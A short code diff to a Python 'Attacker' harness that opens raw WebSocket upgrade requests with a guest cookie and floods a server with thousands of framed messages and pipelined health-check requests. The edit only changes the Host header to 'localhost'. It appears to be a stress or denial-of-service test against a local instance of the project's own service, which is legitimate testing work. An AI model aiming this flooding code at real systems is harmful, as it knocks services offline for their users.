@@ -70,7 +70,7 @@ class Attacker:
     async def socket(self, table: str, cookie: str, writer: asyncio.StreamWriter) -> None:
         key = base64.b64encode(secrets.token_bytes(16)).decode()
         writer.write(
-            f"GET /api/live/{table} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            f"GET /api/live/{table} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
             f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nCookie: longshore_guest={cookie}"
             "\r\n\r\n".encode()
         )
@@ -318,7 +318,7 @@ async def messages(attacker: Attacker) -> None:
                         attacker.seen["heaps"] += 1
             await asyncio.sleep(0.01)
 
-    requests = b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n" * 500
+    requests = b"GET /api/health HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500
     await asyncio.gather(
         *(flood(framed(b"{}") * 5000, True) for _ in range(16)), *(flood(requests, False) for _ in range(8))
     )
